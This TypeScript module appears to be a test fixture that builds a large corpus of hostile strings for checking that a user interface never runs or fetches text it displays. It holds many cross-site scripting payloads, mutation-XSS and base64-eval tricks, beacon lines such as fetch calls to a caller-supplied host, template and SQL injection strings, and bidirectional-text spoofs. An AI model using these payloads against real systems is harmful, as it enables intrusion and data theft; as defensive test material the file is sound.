/** What a text does if it is ever taken for code: leaves a mark, opens a dialog, or calls somebody outside. */
const acts = (host: string) => [
  'window.ranHostile=1',
  'alert(1)',
  `top.location='http://${host}/led'`,
  `fetch('http://${host}/told')`
]

const events = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['ontoggle', 'onbegin', 'onwheel', 'onscroll', 'oncopy', 'onpageshow', 'onhashchange', 'ontransitionend']
]
const carriers = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'marquee'],
  ...['iframe', 'select autofocus', 'object data=x', 'math', 'style', 'a href=# autofocus tabindex=1']
]

function elements(host: string): string[] {
  return acts(host).flatMap((act) => [
    `<script>${act}</script>`,
    `<ScRiPt>${act}</sCrIpT>`,
    `<script type=module>${act}</script>`,
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `<script\n>${act}</script\n>`,
    `<script/x>${act}</script>`,
    `"><script>${act}</script>`,
    `'-${act}-'`,
    `</title><script>${act}</script>`,
    `</textarea><script>${act}</script>`,
    `</style><script>${act}</script>`,
    `--><script>${act}</script><!--`,
    `<![CDATA[<script>${act}</script>]]>`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
    `<svg><set onbegin="${act}">`,
    `<svg><a xlink:href="javascript:${act}"><text x=9 y=9>x</text></a></svg>`,
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
    `<iframe src="javascript:${act}"></iframe>`,
    `<object data="javascript:${act}"></object>`,
    `<embed src="javascript:${act}">`,
    `<form action="javascript:${act}"><button autofocus>x</button></form>`,
    `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
    `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
    `<template shadowrootmode=open><script>${act}</script></template>`,
    `<img src=x onerror=eval(atob("${Buffer.from(act).toString('base64')}"))>`
  ])
}

const handlers = (): string[] =>
  events.flatMap((event, index) =>
    [0, 1, 2, 3].map((n) => {
      const carrier = carriers[(index * 4 + n) % carriers.length] ?? ''
      const quote = ['"', "'", '', '`'][n] ?? ''
      return `<${carrier} ${event}=${quote}window.ranHostile=1${quote}>`
    })
  )

function addresses(host: string): string[] {
  const schemes = [
    ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:'],
    ...['javascript://%0a', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'view-source:javascript:']
  ]
  return [
    ...schemes.flatMap((scheme) => [
      `${scheme}window.ranHostile=1`,
      `[open](${scheme.trim()}window.ranHostile=1)`,
      `<a href="${scheme}window.ranHostile=1" autofocus>x</a>`
    ]),
    'data:text/html,<script>window.ranHostile=1</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ...[
      'file:///etc/passwd',
      '\\\\host\\share\\x',
      'blob:null/1',
      'app://latchkey/index.html',
      'about:blank'
    ],
    `http://${host}/plain`,
    `//${host}/protocol`,
    `http://user:word@${host}/`,
    `https://раураl.example/`,
    `http://${host}\u202Egnp.exe`
  ]
}

/** What fetches when it is drawn, without a script. */
function fetching(host: string): string[] {
  const at = (path: string) => `http://${host}/${path}`
  return [
    ...['img', 'video', 'audio', 'iframe', 'embed', 'source', 'track', 'input type=image'].map(
      (name) => `<${name} src="${at('src')}">`
    ),
    `<img srcset="${at('srcset')} 2x">`,
    `<picture><source srcset="${at('picture')}"><img></picture>`,
    `<link rel=stylesheet href="${at('style')}">`,
    `<link rel=prefetch href="${at('prefetch')}">`,
    `<link rel=dns-prefetch href="//${host}">`,
    `<base href="${at('base')}/">`,
    `<meta http-equiv=refresh content="0;url=${at('refresh')}">`,
    `<body background="${at('background')}">`,
    `<table background="${at('table')}"><td background="${at('cell')}">x`,
    `<svg><image href="${at('image')}"/></svg>`,
    `<svg><use href="${at('use')}#x"/></svg>`,
    `<style>@import "${at('import')}";</style>`,
    `<style>*{background:url(${at('css')})}</style>`,
    `<div style="background:url(${at('inline')})">x</div>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">covered</p>`,
    `;background:url(${at('property')});color:red`,
    `} * { background: url(${at('closed')}) !important } {`,
    `expression(window.ranHostile=1)`,
    `<video poster="${at('poster')}">`,
    `<object data="${at('data')}"></object>`,
    `<a ping="${at('ping')}" href="#">x</a>`,
    `![picture](${at('markdown')})`,
    `[link](${at('link')} "title")`,
    `[ref]: ${at('reference')}`,
    `<${at('autolink')}>`,
    `> # **[bold](${at('bold')})** \`<img src=${at('code')}>\``
  ]
}

/** What turns into something else when it is cleaned, decoded or parsed twice. */
const mutating = [
  '&lt;script&gt;window.ranHostile=1&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<img/src="x"/onerror=alert(1)//',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<\u0000script>alert(1)</script>'.replace('\u0000', '\u0001'),
  '<svg/onload=alert`1`>',
  '<x onclick=alert(1) contenteditable autofocus tabindex=0>x',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{%import os%}{{7*7}}',
  '[[${alert(1)}]]',
  'dangerouslySetInnerHTML={{__html:"<img src=x onerror=alert(1)>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '{"__html":"<script>alert(1)</script>"}',
  '*/alert(1)/*',
  "';alert(1)//",
  '\\";alert(1);//',
  "'; DROP TABLE credentials; --",
  '%s%n%d %x %p',
  '=HYPERLINK("javascript:alert(1)")',
  '```\n<script>alert(1)</script>\n```',
  '**<b onclick=alert(1)>**',
  '`</code><script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>',
  '- [x](javascript:alert(1)) <svg onload=alert(1)>'
]

const names = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'],
  ...['undefined', 'null', 'NaN', 'true', '[object Object]', 'password', 'pane-title', 'latchkey', 'key'],
  ...[
    'tag:',
    'folder:"',
    'is:',
    '-',
    '"',
    '-"',
    'has:__proto__',
    'weak:constructor',
    '.*',
    '(',
    '[',
    '\\',
    '%_'
  ]
]

/** What turns, hides, piles up or spreads. */
const unruly = [
  ...[
    '\u202Etxt.exe',
    '\u202Dabc\u202C',
    '\u2066x\u2069y',
    '\u2067<b>\u2069',
    '\u061C\u200Fשלום',
    '\u200E\u200F'
  ],
  ...[
    'مرحبا بالعالم',
    'עברית 123 abc',
    'ـ'.repeat(200),
    'a\u0301\u0302\u0303'.repeat(40),
    'Z' + '\u0336'.repeat(120)
  ],
  ...[
    '👨‍👩‍👧‍👦'.repeat(20),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪👍🏿',
    '\uD800',
    '\uDFFF lone',
    '\uFEFFmark',
    'x\u200By\u200Cz\u2060',
    '\uFFF9a\uFFFAb\uFFFB'
  ],
  ...[
    'tab\tand\u000bmore',
    'bell\u0007 esc\u001b[31m',
    '\u0085\u2028\u2029lines',
    'a\r\nb\rc',
    '\u0080\u009f'
  ],
  ...[
    '﷽'.repeat(60),
    '𒐫'.repeat(40),
    'W'.repeat(256),
    'il'.repeat(128),
    '_'.repeat(250),
    '\u00a0'.repeat(100) + 'x'
  ],
  ...[
    '<'.repeat(256),
    '&'.repeat(256),
    'x '.repeat(128).trim(),
    `${'a'.repeat(60)}.`.repeat(4),
    '１２３ｆｕｌｌ'
  ]
]

/**
 * Texts that do harm where a text is taken for more than that, all different. Every one is short enough for a title.
 * `host` is whom they call.
 */
export function hostileTexts(host: string): string[] {
  const all = [
    ...[elements(host), handlers(), addresses(host), fetching(host), mutating, names, unruly].flat()
  ]
  return [...new Set(all.filter((text) => text.length <= 256 && text.trim() !== ''))]
}

/** Those that need the most room, or another direction. */
export const unrulyTexts: readonly string[] = unruly
